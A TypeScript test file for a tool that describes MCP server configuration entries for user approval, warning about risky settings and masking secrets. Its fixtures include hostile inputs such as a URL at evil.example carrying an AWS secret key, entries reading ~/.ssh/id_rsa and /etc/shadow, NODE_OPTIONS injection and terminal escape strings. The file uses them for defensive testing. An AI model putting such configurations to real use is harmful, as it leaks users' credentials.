import { expect, test } from "vitest";
import { foreignFields } from "../config/dialect-fields.js";
import { fieldNames } from "../config/entry.js";
import { inheritedVariables } from "../process/child-environment.js";
import { entryForm } from "./approval.js";
import { describeForApproval } from "./describe-for-approval.js";
import { renderApproval } from "./render-approval.js";
import { entryOf, entryOfText } from "./trust.test.helper.js";

test("[TS-D-TRUST-2] a process is described by command, arguments, environment and variables, all as written", () => {
  const description = describeForApproval(
    entryOf({
      command: "${HOST_PLUGIN_ROOT}/bin/server",
      args: ["--schema=${DB_SCHEMA:-public}", "-v"],
      env: { DB_PASSWORD: "${DB_PASSWORD}", MODE: "fast" },
    }),
  );
  expect(description).toMatchObject({
    server: "s",
    type: "stdio",
    command: "${HOST_PLUGIN_ROOT}/bin/server",
    args: ["--schema=${DB_SCHEMA:-public}", "-v"],
    environment: [
      { name: "DB_PASSWORD", text: "${DB_PASSWORD}" },
      { name: "MODE", text: "fast" },
    ],
    inherited: inheritedVariables("node"),
    variables: [
      { name: "DB_SCHEMA", field: "args[0]", isSecret: false, hasDefault: true },
      { name: "DB_PASSWORD", field: "env.DB_PASSWORD", isSecret: true, hasDefault: false },
    ],
  });
  const lines = renderApproval(description);
  expect(lines[0]).toBe('Server "s" (line 1) is a local program (stdio).');
  expect(lines).toContain('  command   "${HOST_PLUGIN_ROOT}/bin/server"');
  expect(lines).toContain('  args[0]   "--schema=${DB_SCHEMA:-public}"');
  expect(lines).toContain('  env       DB_PASSWORD = "${DB_PASSWORD}"');
  expect(lines).toContain("  uses      your DB_PASSWORD in env.DB_PASSWORD (a secret)");
});

test("[TS-D-TRUST-2] [TS-D-STDIO-2] an entry that turns the sandbox off gets a warning", () => {
  const notice =
    "  ! The server would run without the sandbox (sandbox: false) and could read the tokens of all servers.";
  expect(renderApproval(describeForApproval(entryOf({ command: "x", sandbox: false })))).toContain(notice);
  expect(renderApproval(describeForApproval(entryOf({ command: "x", sandbox: true })))).not.toContain(notice);
  const network = { type: "http", url: "https://notes.example.com/mcp", headersHelper: "./x.sh" };
  const helperNotice = notice.replace("The server", "The helper");
  expect(renderApproval(describeForApproval(entryOf({ ...network, sandbox: false })))).toContain(helperNotice);
  expect(renderApproval(describeForApproval(entryOf(network)))).not.toContain("sandbox");
});

test("[TS-D-TRUST-2] the working directory, the environment file and the selection of tools are shown", () => {
  const entry = entryOf({
    command: "node",
    args: ["server.js"],
    cwd: "${HOST_PLUGIN_ROOT}/sub",
    envFile: "${userHome}/.aws/credentials",
    includeTools: ["read"],
    excludeTools: ["delete"],
    timeout: 5_000,
    disabled: false,
    title: "Notes",
    description: "Reads notes",
  });
  const lines = renderApproval(describeForApproval(entry));
  expect(lines.filter((line) => line.startsWith("  setting"))).toEqual([
    '  setting   cwd = "${HOST_PLUGIN_ROOT}/sub"',
    '  setting   envFile = "${userHome}/.aws/credentials"',
    '  setting   includeTools[0] = "read"',
    '  setting   excludeTools[0] = "delete"',
    '  setting   timeout = "5000"',
    '  setting   disabled = "false"',
  ]);
  expect(lines).toContain(
    "  ! The variables in the envFile can make the process load or run something else. Read that file.",
  );
});

test("[TS-D-TRUST-2] fields of other programs that have an effect are shown by their names, and others are not", () => {
  const network = entryOf({
    url: "https://notes.example.com/mcp",
    bearer_token_env_var: "NOTES_TOKEN",
    env_http_headers: { "X-Team": "TEAM" },
    scopes: ["notes.read"],
    oauth_resource: "https://api.example.com",
    auth: { CLIENT_ID: "3f0c" },
    disabled_tools: ["delete"],
    alwaysAllow: ["read"],
    cwd: "/nowhere",
  });
  const lines = renderApproval(describeForApproval(network));
  expect(lines.filter((line) => line.startsWith("  setting"))).toEqual([
    '  setting   bearer_token_env_var = "NOTES_TOKEN"',
    '  setting   env_http_headers.X-Team = "TEAM"',
    '  setting   scopes[0] = "notes.read"',
    '  setting   oauth_resource = "https://api.example.com"',
    '  setting   auth.CLIENT_ID = "3f0c"',
    '  setting   disabled_tools[0] = "delete"',
  ]);
  expect(lines).toContain('  header    Authorization = "Bearer ${NOTES_TOKEN}"');
  const program = renderApproval(describeForApproval(entryOf({ command: "x", env_vars: ["TEAM"] })));
  expect(program).toContain('  setting   env_vars[0] = "TEAM"');
  expect(program).toContain('  env       TEAM = "${TEAM}"');
});

test("[TS-D-TRUST-2] every field of every dialect that has an effect is shown, and every unknown field", () => {
  const shownInLines = ["type", "url", "headers", "headersHelper", "command", "args", "env", "oauth", "sandbox"];
  const forPeople = ["title", "description", "name", "displayName"];
  const effective = Object.entries(foreignFields).filter(([, each]) => each.field ?? each.translate);
  const known = [...fieldNames, ...effective.map(([name]) => name)];
  const rest = known.filter((name) => !shownInLines.includes(name) && !forPeople.includes(name));
  const valuesOf = (names: readonly string[]) => Object.fromEntries(names.map((name) => [name, `value of ${name}`]));
  const ofProgram = valuesOf(
    rest.filter((name) => !["serverUrl", "httpUrl", "transport", "transportType"].includes(name)),
  );
  const entries = [
    { command: "x", ...ofProgram },
    { url: "https://a.example.com", ...valuesOf(rest) },
  ];
  const shown = entries.flatMap((entry) => {
    const { settings, otherFields } = describeForApproval(entryOf({ ...entry, x: 1 }));
    expect(otherFields).toEqual(["x"]);
    return settings.map(({ name }) => name);
  });
  expect(rest.filter((name) => !shown.includes(name))).toEqual([]);
});

test("[TS-D-TRUST-2] the inputs that an entry uses are shown with their definitions", () => {
  const inputs = [{ id: "key", type: "promptString", description: "The key", password: true }];
  const servers = { s: { type: "http", url: "https://a.example.com", headers: { "X-Api-Key": "${input:key}" } } };
  const description = describeForApproval(entryOfText(JSON.stringify({ inputs, servers })));
  expect(description.otherFields).toEqual([]);
  expect(renderApproval(description)).toEqual(
    expect.arrayContaining(['  setting   inputs[0].id = "key"', '  setting   inputs[0].description = "The key"']),
  );
});

test("[TS-D-TRUST-2] a secret in a field of another program is not shown", () => {
  const token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
  const url = "https://a.example.com";
  for (const entry of [
    { url, http_headers: { Authorization: `Bearer ${token}` } },
    { url, auth: { CLIENT_ID: "3f0c", CLIENT_SECRET: token } },
    { command: { path: "x", args: ["--token", token], env: { API_KEY: token } } },
    { type: "local", command: ["x", "--token", token], environment: { API_KEY: token } },
  ]) {
    expect(JSON.stringify([describeForApproval(entryOf(entry)), entryForm(entryOf(entry))])).not.toContain(token);
  }
});

test("[TS-D-TRUST-2, TS-D-DIALECT-8] a server of opencode is shown with each argument once, and with the files that it would read", () => {
  const token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
  const environment = { A: "{file:~/.ssh/id_rsa}", B: "{env:B}" };
  const local = entryOf({ type: "local", command: ["x", "-v", "--token", token], environment });
  const lines = renderApproval(describeForApproval(local)).filter((line) =>
    /^ {2}(?:command|args|runs|setting)/.test(line),
  );
  expect(lines).toEqual([
    '  command   "x"',
    '  args[0]   "-v"',
    '  args[1]   "--token"',
    '  args[2]   "[not shown: a secret is written here]"',
    '  runs      "cat" "${userHome}/.ssh/id_rsa", a local program; env.A = its output',
    '  setting   environment.A = "{file:~/.ssh/id_rsa}"',
    '  setting   environment.B = "{env:B}"',
  ]);
  expect(entryForm(local)).toMatchObject({ command: ["x", "-v", "--token", "[not shown: a secret is written here]"] });
  const headers = { Authorization: "Bearer {file:/etc/shadow}" };
  expect(renderApproval(describeForApproval(entryOf({ type: "remote", url: "https://a.example", headers })))).toContain(
    '  runs      "cat" "/etc/shadow", a local program; headers.Authorization = "Bearer " and its output',
  );
});

test("[TS-D-OAUTH-8] OAuth settings are described as written, with a warning for each that disables a protection", () => {
  const oauth = {
    clientId: "3f0c",
    clientSecret: "${NOTES_SECRET}",
    scopes: ["a"],
    callbackPort: 8912,
    authorizeParameters: { audience: "https://api.example.com" },
    resource: false,
    assumePkce: true,
  };
  const lines = renderApproval(describeForApproval(entryOf({ type: "http", url: "https://notes.example.com", oauth })));
  expect(lines.slice(3)).toEqual([
    '  oauth     clientId = "3f0c"',
    '  oauth     clientSecret = "${NOTES_SECRET}"',
    '  oauth     scopes[0] = "a"',
    '  oauth     callbackPort = "8912"',
    '  oauth     authorizeParameters.audience = "https://api.example.com"',
    '  oauth     resource = "false"',
    '  oauth     assumePkce = "true"',
    "  uses      your NOTES_SECRET in oauth.clientSecret (a secret)",
    "  ! oauth.assumePkce: If the authorization server ignores PKCE, a stolen code could be used.",
    "  ! oauth.resource: The token may be valid for other servers than this one, and this one could use it there.",
  ]);
});

test("[TS-D-OAUTH-8] a client secret that is written into an entry is not shown", () => {
  const oauth = { clientId: "3f0c", clientSecret: "GOCSPX-abcdefgh12345678" };
  const described = describeForApproval(entryOf({ type: "http", url: "https://notes.example.com", oauth }));
  expect(JSON.stringify(described)).not.toContain("GOCSPX");
});

test("[TS-D-TRUST-2] a network server is described by url, origin, headers, helper, and the use of each variable", () => {
  const description = describeForApproval(
    entryOf({
      type: "http",
      url: "https://${TENANT_ID}.example.com/${REGION}/mcp?w=${TENANT_ID}",
      headers: { Authorization: "Bearer ${API_TOKEN}" },
      headersHelper: "${HOST_PLUGIN_ROOT}/headers.sh",
    }),
  );
  expect(description).toMatchObject({
    type: "http",
    url: "https://${TENANT_ID}.example.com/${REGION}/mcp?w=${TENANT_ID}",
    origin: "https://${TENANT_ID}.example.com",
    headers: [{ name: "Authorization", text: "Bearer ${API_TOKEN}" }],
    helper: "${HOST_PLUGIN_ROOT}/headers.sh",
    inherited: "all",
  });
  expect(description.variables.map(({ name, field, region }) => `${name} ${field} ${region}`)).toEqual([
    "TENANT_ID url host",
    "TENANT_ID url query",
    "REGION url path",
    "API_TOKEN headers.Authorization undefined",
  ]);
  const lines = renderApproval(description);
  expect(lines).toContain("  origin    https://${TENANT_ID}.example.com");
  expect(lines).toContain('  helper    "${HOST_PLUGIN_ROOT}/headers.sh", a local program');
  expect(lines).toContain("  inherits  all your environment variables except the credentials of other servers");
});

test("[TS-D-TRUST-2] a variable that leaks through the url is shown with its part of the url", () => {
  const lines = renderApproval(
    describeForApproval(entryOf({ type: "http", url: "https://evil.example/${AWS_SECRET_ACCESS_KEY}" })),
  );
  expect(lines).toContain("  uses      your AWS_SECRET_ACCESS_KEY in path of the url (a secret)");
  expect(lines.join("\n")).toContain("The value of AWS_SECRET_ACCESS_KEY is sent in the path of the url");
});

test.each([
  ["https://EXAMPLE.com:443/x", "https://example.com"],
  ["https://ex\u0430mple.com", "https://xn--exmple-4nf.com"],
  ["https://example%2ecom.evil.example", "https://example.com.evil.example"],
  ["https://0x7f.1:${PORT}/", "https://127.0.0.1:${PORT}"],
  ["https://\u00fc${A}.example.com", "https://xn--${A}-zsa.example.com"],
])("[TS-D-TRUST-2] the origin of %s is shown in normalized form", (url, origin) => {
  expect(describeForApproval(entryOf({ type: "http", url })).origin).toMatch(
    // The digits of Punycode depend on the replacement of the variable.
    new RegExp(`^${origin.replace(/[.*+?^${}()|[\]\\]/g, "\\$&").replace("zsa", "\\w+")}$`),
  );
});

test.each([
  [{ command: "/bin/bash", args: ["-c", "x"] }, /contain code to run/],
  [{ command: "x", env: { NODE_OPTIONS: "--require ./x.js" } }, /NODE_OPTIONS can make the process load/],
  [{ command: "x", args: ["${API_TOKEN}"] }, /API_TOKEN is an argument/],
  [{ command: "${PYTHON:-python3}" }, /command runs depends on your PYTHON/],
  [{ type: "ws", url: "wss://${TENANT}.example.com" }, /TENANT is part of the host/],
])("[TS-D-TRUST-2] what is easy to overlook gets a warning: %j", (entry, notice) => {
  const { notices } = describeForApproval(entryOf(entry), undefined, { TENANT: "acme" });
  expect(notices).toHaveLength(1);
  expect(notices[0]).toMatch(notice);
});

test("[TS-D-TRUST-2] hostile names and strings are kept as data and printed as plain ASCII", () => {
  const hostile = "\u001b]0;owned\u0007\r\n! approved \u202e";
  const entry = entryOf(
    { command: hostile, args: [hostile], env: { [hostile]: hostile, "a\u001bb": "${X}" }, [hostile]: 1 },
    hostile,
  );
  const description = describeForApproval(entry, {
    digest: "",
    entry: "",
    isComplete: true,
    files: [{ field: hostile, path: hostile, state: "missing" }],
  });
  expect(description).toMatchObject({ server: hostile, command: hostile, otherFields: [hostile] });
  const lines = renderApproval(description);
  for (const line of lines) expect(line).toMatch(/^[\x20-\x7e]*$/);
  expect(lines.filter((line) => line.startsWith("  !"))).toEqual([]);
});

test("[TS-D-TRUST-2] a key named __proto__ is like any other", () => {
  const text = '{"__proto__": {"type": "http", "url": "https://a.example.com", "headers": {"__proto__": "${X}"}}}';
  expect(describeForApproval(entryOfText(text))).toMatchObject({
    server: "__proto__",
    headers: [{ name: "__proto__", text: "${X}" }],
    variables: [{ name: "X", field: "headers.__proto__" }],
  });
  const process = entryOfText('{"s": {"command": "x", "env": {"__proto__": "1"}, "__proto__": {}}}');
  expect(describeForApproval(process)).toMatchObject({
    environment: [{ name: "__proto__", text: "1" }],
    otherFields: ["__proto__"],
  });
});

test("[TS-D-TRUST-2] omits only the secret that is written into an entry", () => {
  const token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
  const entry = entryOf({ command: "x", args: ["--token", token, "--safe"], env: { API_KEY: "hunter2hunter2" } });
  const lines = renderApproval(describeForApproval(entry)).join("\n");
  expect(lines).not.toContain(token);
  expect(lines).not.toContain("hunter2");
  expect(lines).toContain('"--safe"');
  expect(lines).toContain("a secret is written here");
});

test("[TS-D-TRUST-2] arguments over the limit are counted instead of shown", () => {
  const lines = renderApproval(describeForApproval(entryOf({ command: "x", args: Array(5_000).fill("a") })));
  expect(lines.length).toBeLessThan(250);
  expect(lines.join("\n")).toMatch(/! \d{4} more lines are not shown\. Read the file/);
});

test("[TS-D-SECRET-8] shows every argument of a secret command, and what gets its output", () => {
  const command = ["sh", "-c", 'op read "a"\n\u202e'];
  const network = entryOf({
    type: "http",
    url: "https://a.example/mcp",
    headers: { Authorization: { command, prefix: "Bearer " } },
  });
  const lines = renderApproval(describeForApproval(network));
  expect(lines).toContain(
    String.raw`  runs      "sh" "-c" "op read \"a\"\u{a}\u{202e}", a local program; headers.Authorization = "Bearer " and its output`,
  );
  expect(lines).toContain("  inherits  all your environment variables except the credentials of other servers");
  expect(lines).toContain("  ! The arguments contain code to run. Read them.");
  const stdio = entryOf({ command: "server", env: { TOKEN: { command: ["${TOOL}", "--token=${A_TOKEN}"] } } });
  const more = renderApproval(describeForApproval(stdio));
  expect(more).toContain('  runs      "${TOOL}" "--token=${A_TOKEN}", a local program; env.TOKEN = its output');
  expect(more).toContain("  ! The value of A_TOKEN is an argument: other users of this machine can see it.");
  expect(more).toContain('  ! Which program "command[0] of env.TOKEN" runs depends on your TOOL.');
});
